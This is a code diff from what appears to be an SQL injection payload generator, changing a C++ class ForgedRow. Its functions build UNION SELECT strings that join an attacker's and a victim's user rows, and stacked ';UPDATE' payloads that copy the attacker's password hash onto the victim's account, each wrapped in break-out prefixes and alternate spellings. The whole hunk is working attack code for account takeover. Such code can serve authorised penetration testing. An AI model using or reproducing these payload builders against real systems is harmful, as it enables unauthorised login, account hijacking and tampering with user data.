@@ -66,32 +66,31 @@ std::vector<ForgedRow::Columns> ForgedRow::rows() const {
     return all;
 }
 
-std::vector<std::string> ForgedRow::texts(std::vector<Break> const& breaks) const {
+std::vector<std::string> ForgedRow::texts(std::vector<Break> const& breaks,
+                                          Spelling const& spelling) const {
     std::vector<std::string> texts;
     if (table_.empty()) return texts;
-    std::string const from = " FROM " + table_ + " a JOIN " + table_ + " v WHERE a." + username_ +
-                             "=" + quoted(attacker_) + " AND v." + username_ + "=" +
-                             quoted(victim_);
-    for (Spelling const& spelling : spellings()) {
-        for (Break const& each : breaks) {
-            for (Columns const& row : rows())
-                texts.push_back(each.open + spelling.write(" UNION SELECT " + join(row) + from) +
-                                each.tail);
-        }
+    // The condition on the names goes into sub-queries, so that a tail may add its own WHERE.
+    auto const one = [&](std::string const& name) {
+        return "(SELECT id," + username_ + "," + hash_ + " FROM " + table_ + " WHERE " + username_ + "=" + quoted(name) + ")";
+    };
+    std::string const from = " FROM " + one(attacker_) + " a JOIN " + one(victim_) + " v";
+    for (Break const& each : breaks) {
+        for (Columns const& row : rows())
+            texts.push_back(each.open + spelling.write(" UNION SELECT " + join(row) + from) +
+                            each.tail);
     }
     return texts;
 }
 
-std::vector<std::string> ForgedRow::overwriting(std::vector<Break> const& breaks) const {
+std::vector<std::string> ForgedRow::overwriting(std::vector<Break> const& breaks,
+                                                Spelling const& spelling) const {
     std::vector<std::string> texts;
     if (table_.empty()) return texts;
     std::string const sql = ";UPDATE " + table_ + " SET " + hash_ + "=(SELECT " + hash_ + " FROM " +
                             table_ + " WHERE " + username_ + "=" + quoted(attacker_) + ") WHERE " +
                             username_ + "=" + quoted(victim_);
-    for (Spelling const& spelling : spellings()) {
-        for (Break const& each : breaks)
-            texts.push_back(each.open + spelling.write(sql) + each.tail);
-    }
+    for (Break const& each : breaks) texts.push_back(each.open + spelling.write(sql) + ";--");
     return texts;
 }
 
